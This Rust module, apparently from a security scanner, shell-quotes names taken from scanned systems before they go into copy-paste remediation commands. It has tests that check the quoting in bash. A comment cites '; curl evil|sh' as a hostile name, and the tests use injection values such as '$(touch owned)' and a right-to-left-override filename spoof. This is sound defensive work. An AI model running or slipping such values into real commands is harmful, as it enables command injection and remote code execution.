//! Names put into commands.
//!
//! A fix is text with commands in it, made to be copied. The names in it come from
//! the scanned systems, where `; curl evil|sh` may be a legal one, so where a
//! placeholder stands in a command its value is quoted as POSIX says (Shell Command
//! Language, 2.2). Values that need no quotes get none.

use std::borrow::Cow;

use crate::model::is_deceptive;

/// Programs whose name starts a command in a fix.
const PROGRAMS: &[&str] = &[
    "aws",
    "bao",
    "curl",
    "gh",
    "git",
    "helm",
    "kubectl",
    "openssl",
    "tenure",
    "terraform",
    "vault",
];

/// Where in the text of a fix a value is put.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Place {
    /// In words for people.
    #[default]
    Prose,
    /// In a command, outside quotes.
    Bare,
    /// In a command, between single quotes.
    Single,
    /// In a command, between double quotes.
    Double,
}

/// Reads the text of a fix up to a placeholder, piece by piece.
#[derive(Clone, Debug, Default)]
pub struct Reader {
    place: Place,
    /// The word being read.
    word: String,
}

impl Reader {
    /// Reads on; gives where what follows stands.
    pub fn read(&mut self, text: &str) -> Place {
        let mut escaped = false;
        for c in text.chars() {
            match self.place {
                Place::Prose => self.prose(c),
                Place::Bare => match c {
                    _ if escaped => escaped = false,
                    '\\' => escaped = true,
                    '\'' => self.place = Place::Single,
                    '"' => self.place = Place::Double,
                    // The command ends, or is ended by what stands around it.
                    ';' | '\n' | '`' => self.end(),
                    _ => {}
                },
                Place::Single if c == '\'' => self.place = Place::Bare,
                Place::Double => match c {
                    _ if escaped => escaped = false,
                    '\\' => escaped = true,
                    '"' => self.place = Place::Bare,
                    _ => {}
                },
                Place::Single => {}
            }
        }
        self.place
    }

    fn prose(&mut self, c: char) {
        if c.is_ascii_alphanumeric() || c == '-' {
            self.word.push(c);
            return;
        }
        // Followed by a space, a program's name starts a command; followed by anything
        // else it is a word of a sentence.
        if c == ' ' && PROGRAMS.contains(&self.word.as_str()) {
            self.place = Place::Bare;
        }
        self.word.clear();
    }

    fn end(&mut self) {
        self.place = Place::Prose;
        self.word.clear();
    }

    /// A value was put in: no word goes on across it.
    pub fn skip(&mut self) {
        self.word.clear();
    }
}

/// `value` as it must stand at `place`.
pub fn quoted(value: &str, place: Place) -> Cow<'_, str> {
    let harmless = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
    match place {
        Place::Prose => Cow::Borrowed(value),
        // `=name` at the start of a word is the path of a program to zsh.
        _ if !value.is_empty() && !value.starts_with('=') && value.chars().all(harmless) => {
            Cow::Borrowed(value)
        }
        // What a display would obey or hide is written out, which only `$'…'` can.
        Place::Bare if value.contains(is_deceptive) => Cow::Owned(format!("$'{}'", ansi_c(value))),
        Place::Bare => Cow::Owned(format!("'{}'", value.replace('\'', r"'\''"))),
        Place::Single if value.contains(is_deceptive) => {
            Cow::Owned(format!("'$'{}''", ansi_c(value)))
        }
        Place::Single => Cow::Owned(value.replace('\'', r"'\''")),
        Place::Double if value.contains(is_deceptive) => {
            Cow::Owned(format!("\"$'{}'\"", ansi_c(value)))
        }
        Place::Double => {
            let mut out = String::with_capacity(value.len() + 8);
            for c in value.chars() {
                match c {
                    '"' | '\\' | '$' | '`' => {
                        out.push('\\');
                        out.push(c);
                    }
                    // History expansion works between double quotes, and no backslash
                    // stops it without staying.
                    '!' => out.push_str("\"'!'\""),
                    c => out.push(c),
                }
            }
            Cow::Owned(out)
        }
    }
}

/// The inside of `$'…'` (POSIX.1-2024, 2.2.4), in ASCII escapes for what shows badly.
fn ansi_c(value: &str) -> String {
    let mut out = String::with_capacity(value.len() + 8);
    for c in value.chars() {
        match c {
            '\'' | '\\' => {
                out.push('\\');
                out.push(c);
            }
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            c if is_deceptive(c) => {
                for byte in c.encode_utf8(&mut [0; 4]).bytes() {
                    // Three octal digits: a hexadecimal escape would run into a digit
                    // that follows it.
                    out.push_str(&format!("\\{byte:03o}"));
                }
            }
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn place_after(text: &str) -> Place {
        Reader::default().read(text)
    }

    #[test]
    fn commands_are_told_from_sentences() {
        for (text, place) in [
            ("aws iam delete-user --user-name ", Place::Bare),
            ("delete it: aws iam delete-user --user-name ", Place::Bare),
            ("Deactivate it, then aws iam delete-user ", Place::Bare),
            ("set a rule; gh api -X DELETE /repos/", Place::Bare),
            ("gh api x; and tell ", Place::Prose),
            ("remove ", Place::Prose),
            ("don't let the vault's ", Place::Prose),
            ("see `vault read x`, and ask ", Place::Prose),
            ("aws iam put --document '{\"a\": \"", Place::Single),
            ("aws iam put --document \"", Place::Double),
            ("aws iam put --document \"a\" --b ", Place::Bare),
        ] {
            assert_eq!(place_after(text), place, "{text}");
        }
    }

    #[test]
    fn values_are_one_word_to_a_shell() {
        let hostile = [
            "plain",
            "two words",
            "; touch owned #",
            "$(touch owned)",
            "`touch owned`",
            "it's",
            "a\"b\\c$HOME!x",
            "*",
            "",
            "line\nbreak\u{1b}[31m9",
            "invoice\u{202e}gpj.exe",
            "\u{200b}7",
        ];
        for value in hostile {
            for (place, open, close) in [
                (Place::Bare, "", ""),
                (Place::Single, "'", "'"),
                (Place::Double, "\"", "\""),
            ] {
                let word = format!("{open}{}{close}", quoted(value, place));
                assert!(!word.contains(is_deceptive), "{word:?}");
                let output = std::process::Command::new("bash")
                    .args(["-c", &format!("printf %s {word}")])
                    .output();
                // A machine without bash has nothing to say here.
                if let Ok(output) = output {
                    assert_eq!(String::from_utf8_lossy(&output.stdout), value, "{word}");
                }
            }
        }
    }

    #[test]
    fn what_needs_no_quotes_gets_none() {
        let arn = "arn:aws:iam::111122223333:role/path/x+y=z,@_-.";
        assert_eq!(quoted(arn, Place::Bare), arn);
        assert_eq!(quoted("a b", Place::Prose), "a b");
    }
}
